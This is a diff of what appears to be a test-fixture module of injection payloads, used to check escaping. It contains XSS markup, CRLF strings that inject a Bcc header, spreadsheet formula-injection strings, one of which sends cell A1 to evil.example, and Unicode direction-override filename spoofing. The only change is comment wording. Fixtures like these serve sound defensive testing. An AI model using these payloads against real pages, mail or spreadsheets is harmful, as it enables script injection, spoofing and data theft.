@@ -1,4 +1,4 @@
-/** Markup that would run if it were ever put into a page or a mail unescaped. */
+/** Markup that would run if it were ever put into a page or an email unescaped. */
 export const XSS_CORPUS = [
   '<script>window.hacked = true</script>',
   '<img src=x onerror="window.hacked=true">',
@@ -16,7 +16,7 @@ export const XSS_CORPUS = [
   '<math><mtext></form><form><mglyph><style></math><img src onerror=window.hacked=true>',
 ];
 
-/** Line breaks of all kinds, each with a header that must not be born of it. */
+/** Line breaks of all kinds, each followed by a header that must not be injected. */
 export const CRLF_CORPUS = [
   'Test\r\nBcc: other@example.com',
   'Test\nBcc: other@example.com',
@@ -34,7 +34,7 @@ export const CRLF_CORPUS = [
   'Test\r\nContent-Type: text/html; boundary="x"\r\n\r\n--x',
 ];
 
-/** Texts that a spreadsheet would take for a formula, a field or a row of its own. */
+/** Texts that a spreadsheet would interpret as a formula, or as another field or row. */
 export const CSV_CORPUS = [
   '=1+1',
   '=HYPERLINK("http://evil.example?x="&A1,"click")',
@@ -58,7 +58,7 @@ export const CSV_CORPUS = [
   '|=1+1',
 ];
 
-/** Texts that would stand as something else than they are, or as nothing. */
+/** Texts that would be displayed as something else, or not at all. */
 export const UNSEEN_CORPUS = [
   'Ann\u202egpj.exe',
   '\u2067Ann\u2069',
@@ -69,5 +69,5 @@ export const UNSEEN_CORPUS = [
   '\u3164',
 ];
 
-/** What must be left of none of them. */
+/** The characters that must not remain of any of them. */
 export const UNSEEN = /[\u200b\u200e\u200f\u202a-\u202e\u2066-\u2069\ufeff\u3164\u2028\u2029]/;
